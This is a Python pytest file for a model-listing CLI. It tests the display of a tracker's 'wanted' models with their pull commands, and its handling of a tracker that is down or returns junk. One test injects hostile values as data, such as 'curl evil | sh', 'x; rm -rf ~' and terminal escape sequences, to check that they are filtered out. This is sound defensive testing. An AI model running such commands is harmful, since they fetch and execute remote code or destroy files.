"""`luckrig-node models` ends with the tracker's wanted models (node_agent/wanted.py), run in process against
the tracker app in a live server (GET /api/models/wanted, nodes/wanted.py): the suggestions with their pull
command, the ones this machine has left out; a tracker that is down or answers nonsense costs one note; a local
rig and --no-wanted ask nothing; nothing is ever pulled."""

import hashlib
import json
import socket

import pytest
from django.utils import timezone
from pytest_django.live_server_helper import LiveServer

from node_agent import cli, config
from nodes import wanted as tracker_wanted
from nodes.models import Node
from tests import factories
from tests.node_agent.fakes import FakeFileHost, FakeTracker
from tests.node_agent.test_model_identity import tiny_gguf


@pytest.fixture(autouse=True)
def _no_agent_env(monkeypatch):
    for name in [n for n in __import__("os").environ if n.startswith(config.ENV_PREFIX)]:
        monkeypatch.delenv(name)


@pytest.fixture
def live_tracker(transactional_db, django_db_serialized_rollback):
    """The tracker app served on 127.0.0.1 for this test, started after the suite's settings (no https redirect):
    pytest-django's session-wide live_server loads its middleware before them. With serialized rollback, as every
    other transactional test here: a flush without it re-creates the content types, which the next serialized test
    then fails to load (UNIQUE constraint on django_content_type)."""
    server = LiveServer("127.0.0.1:0")
    yield server.url
    server.stop()


@pytest.fixture
def here(tmp_path):
    """This machine: one GGUF file (the models folder pull downloads into), and its sha256."""
    models = tmp_path / "models"
    models.mkdir()
    path = tiny_gguf(models / "Have.Q8_0.gguf")
    return models, hashlib.sha256(path.read_bytes()).hexdigest()


def entry(name: str, sha256: str) -> dict:
    return {
        "name": name,
        "file": f"{name.split(':')[0]}.Q8_0.gguf",
        "url": f"https://huggingface.co/o/{name}/resolve/main/x.gguf",
        "sha256": sha256,
        "size": 3 * 2**20,
        "licence": "MIT",
        "source": "https://huggingface.co/o/x",
    }


def models(capsys, tmp_path, models_dir, *extra) -> tuple[int, str, str]:
    none = tmp_path / "no-ollama"
    argv = ["models", "--config-dir", tmp_path / "cfg", "--models-dir", models_dir, "--ollama-models", none, *extra]
    code = cli.main([str(a) for a in argv])
    out = capsys.readouterr()
    return code, out.out, out.err


def test_models_ends_with_the_wanted_models_this_machine_lacks(live_tracker, monkeypatch, tmp_path, here, capsys):
    models_dir, have = here
    smollm2 = json.loads(tracker_wanted.CATALOG_FILE.read_text())["models"][0]
    catalog = (entry("rare:1b-q8_0", "1" * 64), smollm2, entry("have:1b-q8_0", have))
    monkeypatch.setattr(tracker_wanted, "catalog", lambda: catalog)
    owner = factories.make_contributor()
    node, _ = factories.make_node(owner)
    Node.objects.filter(pk=node.pk).update(
        status="available", last_heartbeat_at=timezone.now(), model_identity={"sha256": smollm2["sha256"], "size": 1}
    )

    code, out, err = models(capsys, tmp_path, models_dir, "--tracker", live_tracker)
    assert code == 0 and err == "", (out, err)
    listed, _, section = out.partition(f"Wanted on {live_tracker}:\n")
    assert "Have.Q8_0.gguf" in listed and "quantization Q8_0" in listed
    assert section.splitlines() == [
        "  rare:1b-q8_0 (rare.Q8_0.gguf, 3.0 MiB, MIT): served by no rig (not in this agent's catalog: upgrade "
        "luckrig-node)",
        "    luckrig-node pull rare:1b-q8_0",
        f"  {smollm2['name']} ({smollm2['file']}, 93.8 MiB, Apache-2.0): served by 1 rig",
        f"    luckrig-node pull {smollm2['name']}",
    ]  # have:1b-q8_0 is wanted too, but this machine has its file
    assert sorted(p.name for p in models_dir.iterdir()) == ["Have.Q8_0.gguf"]  # nothing was pulled

    # The tracker saved in agent.json is the one asked; --no-wanted and a local rig ask none.
    (tmp_path / "cfg" / "agent.json").write_text(json.dumps({"tracker": live_tracker}))
    assert "luckrig-node pull rare:1b-q8_0" in models(capsys, tmp_path, models_dir)[1]
    assert "Wanted" not in models(capsys, tmp_path, models_dir, "--no-wanted")[1]
    (tmp_path / "cfg" / "agent.json").write_text(json.dumps({"tracker": live_tracker, "visibility": "local"}))
    assert "Wanted" not in models(capsys, tmp_path, models_dir)[1]


def test_a_tracker_that_is_down_or_answers_nonsense_costs_one_note(tmp_path, here, capsys):
    models_dir, _ = here
    with socket.socket() as s:  # a port nothing listens on
        s.bind(("127.0.0.1", 0))
        down = f"http://127.0.0.1:{s.getsockname()[1]}"
    code, out, err = models(capsys, tmp_path, models_dir, "--tracker", down)
    assert code == 0 and "Have.Q8_0.gguf" in out and "Traceback" not in out + err
    note = [line for line in out.splitlines() if line.startswith("Wanted on")]
    assert note == [f"Wanted on {down}: could not ask the tracker (could not connect); --no-wanted skips this"]

    with FakeTracker() as tracker:  # a tracker without this endpoint: 404
        code, out, _ = models(capsys, tmp_path, models_dir, "--tracker", tracker.base)
    assert code == 0 and out.splitlines()[-1] == (
        f"Wanted on {tracker.base}: could not ask the tracker (HTTP 404); --no-wanted skips this"
    )


def test_a_trackers_entries_are_data_the_command_is_built_here(tmp_path, here, capsys):
    models_dir, _ = here
    good = {"name": "rare:1b", "file": "rare.gguf\x1b[2J", "sha256": "1" * 64, "rigs": 2, "pull": "curl evil | sh"}
    bad = [
        {"name": "x; rm -rf ~", "sha256": "2" * 64, "rigs": 0},
        {"name": "\x1b]0;owned\x07", "sha256": "3" * 64, "rigs": 0},
        {"name": "nohash", "sha256": "not hex", "rigs": 0},
        "not an entry",
    ]
    with FakeFileHost() as host:
        host.files["/api/models/wanted"] = json.dumps({"schema_version": 1, "wanted": [*bad, good]}).encode()
        code, out, _ = models(capsys, tmp_path, models_dir, "--tracker", host.base)
        assert code == 0
        assert out.split(f"Wanted on {host.base}:\n")[1].splitlines() == [
            "  rare:1b (rare.gguf): served by 2 rigs (not in this agent's catalog: upgrade luckrig-node)",
            "    luckrig-node pull rare:1b",
        ]
        assert "\x1b" not in out and "evil" not in out and "rm -rf" not in out

        host.files["/api/models/wanted"] = b"<html>a captive portal</html>"
        code, out, _ = models(capsys, tmp_path, models_dir, "--tracker", host.base)
    assert code == 0 and out.splitlines()[-1] == (
        f"Wanted on {host.base}: could not ask the tracker (an answer that is not a list of wanted models); "
        "--no-wanted skips this"
    )
